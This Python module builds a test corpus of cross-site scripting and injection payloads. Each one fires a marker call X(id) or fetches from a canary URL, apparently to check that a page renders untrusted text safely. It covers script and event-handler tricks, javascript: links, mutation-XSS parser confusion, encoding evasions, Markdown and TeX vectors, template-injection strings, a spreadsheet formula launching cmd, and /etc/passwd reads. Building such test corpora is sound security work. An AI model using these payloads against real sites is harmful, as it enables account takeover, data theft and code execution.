"""The corpus: texts that would run script, fetch or lead away, if a page took them for more than text.

In each, ``⟨js⟩`` stands for a call that tells what it could do, ``⟨url⟩`` for an address of the canary,
``⟨host⟩`` for the same without its scheme.
"""

from __future__ import annotations

from dataclasses import dataclass

TEMPLATES = (
    # Script elements, whole and in disguise.
    "<script>⟨js⟩</script>",
    "<SCRIPT SRC=⟨url⟩.js></SCRIPT>",
    "<script src=//⟨host⟩.js></script>",
    "<script type=module>import '⟨url⟩.js'</script>",
    "<scr<script>ipt>⟨js⟩</scr</script>ipt>",
    "<script/src=data:,⟨js⟩></script>",
    "<script\n>⟨js⟩</script\n>",
    "<<script>⟨js⟩//<</script>",
    "<script>⟨js⟩",
    "<script>/*<!--<script>*/⟨js⟩//--></script>",
    "<svg><script>⟨js⟩</script></svg>",
    "<svg><script href=⟨url⟩.js /></svg>",
    "<svg><script>&#88;(⟨id⟩)</script></svg>",
    "<math><script>⟨js⟩</script></math>",
    "\x00<scr\x00ipt>⟨js⟩</script>",
    # Closing what the text may stand in.
    "</title><script>⟨js⟩</script>",
    "</style><script>⟨js⟩</script>",
    "</textarea><script>⟨js⟩</script>",
    "</script><script>⟨js⟩</script>",
    "</noscript><img src=x onerror=⟨js⟩>",
    "</pre></code></li></article></main><img src=x onerror=⟨js⟩>",
    "</iframe></template></select></svg></math><img src=x onerror=⟨js⟩>",
    "--><script>⟨js⟩</script>",
    "]]><script>⟨js⟩</script>",
    # Breaking out of an attribute.
    '"><script>⟨js⟩</script>',
    "'><script>⟨js⟩</script>",
    '"><img src=x onerror=⟨js⟩>',
    '" onmouseover="⟨js⟩" autofocus onfocus="⟨js⟩" x="',
    "' onmouseover='⟨js⟩' autofocus onfocus='⟨js⟩' x='",
    "` onmouseover=⟨js⟩ autofocus onfocus=⟨js⟩ x=`",
    "x onerror=⟨js⟩ onload=⟨js⟩ autofocus onfocus=⟨js⟩",
    '" src=x onerror="⟨js⟩',
    '\\"><img src=x onerror=⟨js⟩>//',
    "&quot;><img src=x onerror=⟨js⟩>",
    '" style="background:url(⟨url⟩)" x="',
    # Event handlers.
    "<img src=x onerror=⟨js⟩>",
    "<img/src/onerror=⟨js⟩>",
    "<img src=x\tonerror\n=⟨js⟩>",
    "<img src=x onerror\x0c=⟨js⟩>",
    '<img """><script>⟨js⟩</script>">',
    "<img src='x' oNeRrOr='⟨js⟩'>",
    "<img src=x onerror=&#88;&#40;⟨id⟩&#41;>",
    "<img src=x:⟨js⟩ onerror=eval(src.slice(2))>",
    "<body onload=⟨js⟩ onpageshow=⟨js⟩>",
    "<svg onload=⟨js⟩>",
    "<svg/onload=⟨js⟩//",
    "<svg><animate onbegin=⟨js⟩ attributeName=x dur=1s>",
    "<svg><set onbegin=⟨js⟩ attributeName=x>",
    "<input autofocus onfocus=⟨js⟩>",
    "<p tabindex=0 id=x onfocus=⟨js⟩ autofocus>x</p>",
    "<details open ontoggle=⟨js⟩><summary>x</summary></details>",
    "<video autoplay><source onerror=⟨js⟩></video>",
    "<audio src=x onerror=⟨js⟩>",
    "<marquee onstart=⟨js⟩>x</marquee>",
    "<div onmouseover=⟨js⟩ onpointerenter=⟨js⟩>x</div>",
    "<x onclick=⟨js⟩ onauxclick=⟨js⟩>x</x>",
    "<style>@keyframes k{}</style><p style='animation:k' onanimationstart=⟨js⟩>x</p>",
    "<xss contenteditable onblur=⟨js⟩ onbeforeinput=⟨js⟩ autofocus onfocusin=⟨js⟩>x</xss>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=⟨js⟩>x</p>",
    # Links that are script.
    "<a href=javascript:⟨js⟩>x</a>",
    "<a href=' javascript:⟨js⟩'>x</a>",
    "<a href='\x01javascript:⟨js⟩'>x</a>",
    "<a href='java\tscript:⟨js⟩'>x</a>",
    "<a href='java&NewLine;script:⟨js⟩'>x</a>",
    "<a href='&#106;avascript:⟨js⟩'>x</a>",
    "<a href='JaVaScRiPt&colon;⟨js⟩'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>⟨js⟩</script>'>x</a>",
    "<a href='data:image/png;base64,AAAA#<script>⟨js⟩</script>' target=_blank>x</a>",
    "<a href='#' ping=⟨url⟩ onclick=⟨js⟩>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<svg><a xlink:href=javascript:⟨js⟩><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:⟨js⟩ /><text y=9>x</text></a></svg>",
    "<math><mi href=javascript:⟨js⟩ xlink:href='javascript:⟨js⟩'>x</mi></math>",
    "<form action=javascript:⟨js⟩><button>x</button></form>",
    "<form id=f action=⟨url⟩ method=post><input name=p value=x></form><button form=f>x</button>",
    "<form><button formaction=javascript:⟨js⟩>x</button></form>",
    "<form action=runs method=post data-rerun><button id=rerun>x</button></form>",
    "<isindex type=image src=x action=javascript:⟨js⟩ onerror=⟨js⟩>",
    # Documents in documents.
    "<iframe src=javascript:⟨js⟩></iframe>",
    "<iframe srcdoc='<script>⟨js⟩</script>'></iframe>",
    "<iframe src=⟨url⟩ name=x></iframe>",
    "<iframe src='data:text/html,<script src=⟨url⟩.js></script>'></iframe>",
    "<object data=javascript:⟨js⟩></object>",
    "<object data=⟨url⟩.svg type=image/svg+xml></object>",
    "<embed src=⟨url⟩.svg>",
    "<frameset><frame src=javascript:⟨js⟩></frameset>",
    "<svg><foreignObject><iframe src=javascript:⟨js⟩></iframe></foreignObject></svg>",
    "<template shadowrootmode=open><img src=x onerror=⟨js⟩></template>",
    "<p><template shadowrootmode=open><script>⟨js⟩</script></template></p>",
    # What is fetched without script.
    "<img src=⟨url⟩>",
    "<img src=//⟨host⟩>",
    "<img src=x srcset='⟨url⟩ 1x, ⟨url⟩ 2x'>",
    "<picture><source srcset=⟨url⟩><img src=x></picture>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="⟨js⟩"/>\'>',
    "<img src='data:image/png;base64,AAAA' onload=⟨js⟩ onerror=⟨js⟩>",
    "<video src=⟨url⟩ poster=⟨url⟩></video>",
    "<audio src=⟨url⟩ autoplay></audio><track src=⟨url⟩>",
    "<input type=image src=⟨url⟩>",
    "<table background=⟨url⟩><tr><td background=⟨url⟩>x</td></tr></table>",
    "<body background=⟨url⟩>",
    "<svg><image href=⟨url⟩ /><use href='⟨url⟩.svg#x'/></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='⟨js⟩'/>#x\"/></svg>",
    "<svg><filter><feImage href=⟨url⟩ /></filter></svg>",
    "<link rel=stylesheet href=⟨url⟩.css>",
    "<link rel=preload as=image href=⟨url⟩><link rel=prefetch href=⟨url⟩>",
    "<link rel=modulepreload href=⟨url⟩.js><link rel=preconnect href=⟨url⟩>",
    "<link rel=icon href=⟨url⟩><link rel=manifest href=⟨url⟩>",
    "<style>@import '⟨url⟩.css';</style>",
    "<style>body{background:url(⟨url⟩)}</style>",
    "<style scoped>h1,p{background:url(⟨url⟩)}</style><p>x</p>",
    "<style>@font-face{font-family:f;src:url(⟨url⟩)}*{font-family:f!important}</style>x",
    "<style>input[value^='a'],[data-run^='a'],[data-run]{background:image-set(url(⟨url⟩) 1x)}</style>",
    "<p style='background:url(⟨url⟩)'>x</p>",
    "<p style='width:expression(⟨js⟩);-moz-binding:url(⟨url⟩);behavior:url(⟨url⟩)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9;background:url(⟨url⟩)'>x</div>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["⟨url⟩"]}]}</script>',
    # What changes the page around it.
    "<meta http-equiv=refresh content='0;url=⟨url⟩'>",
    "<meta http-equiv=refresh content='0;url=javascript:⟨js⟩'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>',
    "<base href=⟨url⟩/ target=_top>",
    "<img src=x id=viewer name=getElementById><form name=body id=toast><input name=cookie></form>",
    "<p id=main class='btn nb-button nb-skip modal show position-fixed w-100 h-100'>x</p>",
    "<plaintext><img src=x onerror=⟨js⟩>",
    "<dialog open><img src=x onerror=⟨js⟩></dialog>",
    "<link rel=stylesheet href=data:text/css,*{background:url(⟨url⟩)}>",
    # HTML that changes when it is parsed again.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=⟨js⟩&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=⟨js⟩>'>",
    "<svg><p><style><!--</style><img src=x onerror=⟨js⟩>--></style>",
    "<math><annotation-xml encoding='text/html'><p><img src=x onerror=⟨js⟩></p></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=⟨js⟩>",
    "<noscript><p title='</noscript><img src=x onerror=⟨js⟩>'>",
    "<noembed><p title='</noembed><img src=x onerror=⟨js⟩>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=⟨js⟩>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=⟨js⟩>'>",
    "<select><template><p title='</template></select><img src=x onerror=⟨js⟩>'>",
    "<svg><title><style><img src='</style><img src=x onerror=⟨js⟩>'></title></svg>",
    "<table><td><a title='</td></table><img src=x onerror=⟨js⟩>'>x</a></td></table>",
    '<p title="\'><script>⟨js⟩</script>">x</p>',
    '<img alt="<x>&quot;<img src=x onerror=⟨js⟩>" src=x>',
    "<del title='`><img src=x onerror=⟨js⟩>'>x</del>",
    # Comments and other things that are no elements.
    "<!--><script>⟨js⟩</script>-->",
    "<!--!><img src=x onerror=⟨js⟩>--!><img src=x onerror=⟨js⟩>",
    "<![CDATA[<script>⟨js⟩</script>]]>",
    "<svg><![CDATA[><img src=x onerror=⟨js⟩>]]></svg>",
    "<?xml version='1.0'?><script>⟨js⟩</script>",
    "<?xml-stylesheet href='⟨url⟩.css'?><!DOCTYPE x [<!ENTITY y SYSTEM '⟨url⟩'>]><x>&y;</x>",
    "<!doctype html><html><head><script>⟨js⟩</script></head></html>",
    # Characters.
    "\u202e<script>⟨js⟩</script>\u202c",
    "\ufeff<script>⟨js⟩</script>\u2028⟨js⟩\u2029",
    "＜script＞⟨js⟩＜/script＞",
    "\u212a<\u017fcript>⟨js⟩</\u017fcript>",
    "+ADw-script+AD4-⟨js⟩+ADw-/script+AD4-",
    "%3Cscript%3E⟨js⟩%3C/script%3E",
    "&lt;script&gt;⟨js⟩&lt;/script&gt;",
    "&amp;lt;img src=x onerror=⟨js⟩&amp;gt;",
    "\\u003cscript\\u003e⟨js⟩\\u003c/script\\u003e",
    "\x1b]8;;javascript:⟨js⟩\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]8;;⟨url⟩\x07<img src=x onerror=⟨js⟩>\x1b]8;;\x07\x1b[31m<b onclick=⟨js⟩>\x1b[0m",
    "\x9d8;;javascript:⟨js⟩\x9clink\r<script>⟨js⟩</script>",
    # Markdown.
    "[x](javascript:⟨js⟩)",
    "[x](  java&#115;cript:⟨js⟩ 'title')",
    "[x](<javascript:⟨js⟩>) <javascript:⟨js⟩>",
    "[x]: javascript:⟨js⟩\n\n[x] and ![x]",
    "![x](⟨url⟩ 'x')",
    '![x](x"onerror=⟨js⟩ "x" onerror="⟨js⟩)',
    '![x" onerror="⟨js⟩](x)',
    "[x](data:text/html;base64,PHNjcmlwdD5YKDApPC9zY3JpcHQ+)",
    '[<img src=x onerror=⟨js⟩>](https://x.invalid "\'><img src=x onerror=⟨js⟩>")',
    "`<script>⟨js⟩</script>` ``` <script>⟨js⟩</script>",
    '```"><script>⟨js⟩</script>\n</code></pre><img src=x onerror=⟨js⟩>\n```',
    '```mermaid\ngraph TD\nA["<img src=x onerror=⟨js⟩>"] --> B\nclick A "javascript:⟨js⟩"\n```',
    '| <img src=x onerror=⟨js⟩> |\n|:-" onclick=⟨js⟩ -|\n| x |',
    '![x](attachment:x.png) ![x](attachment:../../x"onerror=⟨js⟩)',
    # TeX, template languages, formulas.
    "$\\href{javascript:⟨js⟩}{x}$ $$\\url{javascript:⟨js⟩}$$",
    '$\\htmlData{x="><img src=x onerror=⟨js⟩>}$ $\\includegraphics{⟨url⟩}$ $\\style{background:url(⟨url⟩)}{x}$',
    "$<img src=x onerror=⟨js⟩>$ \\(<script>⟨js⟩</script>\\)",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ '<script>⟨js⟩</script>' | safe }}{% include '/etc/passwd' %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('⟨js⟩')()}} %s%n {0.__class__}",
    "=HYPERLINK(\"⟨url⟩\") @SUM(1+1)*cmd|' /C calc'!A0",
    # Texts that work in many places at once.
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=⟨js⟩ )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=⟨js⟩//>\\x3e",
    '">><marquee><img src=x onerror=⟨js⟩></marquee>"></plaintext\\></|\\><plaintext/onmouseover=⟨js⟩>',
    '\'"><svg/onload=⟨js⟩><!--<img src="--><img src=x onerror=⟨js⟩>">',
    "javascript:⟨js⟩",
    "//⟨host⟩/%2e%2e",
)


@dataclass(frozen=True, slots=True)
class Payload:
    """One text of the corpus."""

    id: int
    text: str


def payloads_for(canary: str) -> list[Payload]:
    """The corpus against the canary at this address."""
    return [Payload(id, armed(template, id, canary)) for id, template in enumerate(TEMPLATES)]


def armed(template: str, id: int | str, canary: str) -> str:
    """The text with everything filled in."""
    url = f"{canary}/{id}"
    return (
        template.replace("⟨js⟩", f"X({id})")
        .replace("⟨id⟩", str(id))
        .replace("⟨url⟩", url)
        .replace("⟨host⟩", url.removeprefix("http://"))
    )
